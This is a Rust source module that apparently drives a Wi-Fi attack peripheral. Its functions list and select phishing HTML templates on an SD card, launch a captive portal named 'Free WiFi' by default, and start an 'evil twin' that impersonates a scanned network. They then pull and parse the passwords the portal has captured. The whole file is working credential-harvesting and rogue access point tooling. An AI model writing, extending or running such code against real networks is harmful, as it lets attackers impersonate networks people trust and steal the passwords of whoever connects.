use anyhow::{Result, bail};
use tokio::time::sleep;
use tracing::{info, warn};

use crate::classify::{
    classify_evil_twin_line, classify_portal_line, is_listing_header, parse_html_file_line,
    parse_password_line,
};
use crate::error::SessionError;
use crate::session::{AckPolicy, FeatureLaunch, SessionManager, StartReport};
use crate::state::{Feature, FeatureState, HtmlFile, NetworkRecord, PasswordLog};

pub const DEFAULT_PORTAL_SSID: &str = "Free WiFi";

const PORTAL_ACK: &[&str] = &["started successfully"];
const EVIL_TWIN_ACK: &[&str] = &["started successfully", "broadcasting"];
const PASSWORD_HEADERS: [&str; 2] = ["Password", "Log"];
const SELECT_CONFIRMATIONS: [&str; 2] = ["Loaded HTML file", "Portal will now use"];

/// Portal templates stored on the peripheral's SD card
pub async fn list_html_files(session: &mut SessionManager) -> Result<Vec<HtmlFile>> {
    session.ensure_link_free().await?;
    if !session.send("list_sd").await {
        bail!("Failed to request SD listing from {}", session.device());
    }
    sleep(session.config().ack_settle).await;
    let lines = session
        .channel()
        .collect_for(session.config().ack_window)
        .await;

    let files: Vec<HtmlFile> = lines
        .iter()
        .filter_map(|line| parse_html_file_line(line))
        .collect();
    info!("Found {} HTML files on SD card", files.len());
    Ok(files)
}

/// Make `number` the active template; returns the firmware's confirmation lines
pub async fn select_html(
    session: &mut SessionManager,
    files: &[HtmlFile],
    number: &str,
) -> Result<Vec<String>> {
    let number = number.trim();
    let Some(file) = files.iter().find(|file| file.number == number) else {
        bail!("HTML file number {} not found", number);
    };

    let lines = session
        .exchange(&format!("select_html {number}"), session.config().ack_window)
        .await?;
    let confirmations: Vec<String> = lines
        .into_iter()
        .filter(|line| SELECT_CONFIRMATIONS.iter().any(|marker| line.contains(marker)))
        .collect();

    if confirmations.is_empty() {
        warn!("No confirmation for HTML file {}", file.name);
    } else {
        info!("Selected HTML file {}", file.name);
    }
    Ok(confirmations)
}

pub async fn start_portal(session: &mut SessionManager, ssid: &str) -> Result<StartReport> {
    let ssid = match ssid.trim() {
        "" => DEFAULT_PORTAL_SSID,
        ssid => ssid,
    };

    session
        .start_feature(FeatureLaunch {
            feature: Feature::Portal,
            command: format!("start_portal {ssid}"),
            ack: AckPolicy::Require(PORTAL_ACK),
            classify: classify_portal_line,
            apply: FeatureState::apply_portal_event,
        })
        .await
}

/// Impersonate a network from the latest scan, looked up by its reported index
pub async fn start_evil_twin(
    session: &mut SessionManager,
    target_index: &str,
) -> Result<(NetworkRecord, StartReport)> {
    let target = {
        let state_ref = session.get_state_ref();
        let state = state_ref.lock().await;
        if !state.has_networks() {
            return Err(SessionError::NoScanResults.into());
        }
        match state.network_by_index(target_index.trim()) {
            Some(network) => network.clone(),
            None => bail!("Network number {} not found", target_index.trim()),
        }
    };

    let report = session
        .start_feature(FeatureLaunch {
            feature: Feature::EvilTwin,
            command: "start_evil_twin".to_string(),
            ack: AckPolicy::Require(EVIL_TWIN_ACK),
            classify: classify_evil_twin_line,
            apply: FeatureState::apply_portal_event,
        })
        .await?;

    session
        .get_state_ref()
        .lock()
        .await
        .feature_mut(Feature::EvilTwin)
        .target_ssid = Some(target.ssid.clone());
    info!("Evil twin broadcasting as {}", target.ssid);

    Ok((target, report))
}

/// Credentials the portal has logged; refused while the portal still runs
pub async fn show_passwords(session: &mut SessionManager) -> Result<PasswordLog> {
    let lines = session
        .exchange("show_pass", session.config().ack_window)
        .await?;

    let mut log = PasswordLog::default();
    for line in lines {
        if is_listing_header(&line, &PASSWORD_HEADERS) {
            continue;
        }
        match parse_password_line(&line) {
            Some(entry) => log.entries.push(entry),
            None => log.other_lines.push(line),
        }
    }
    Ok(log)
}
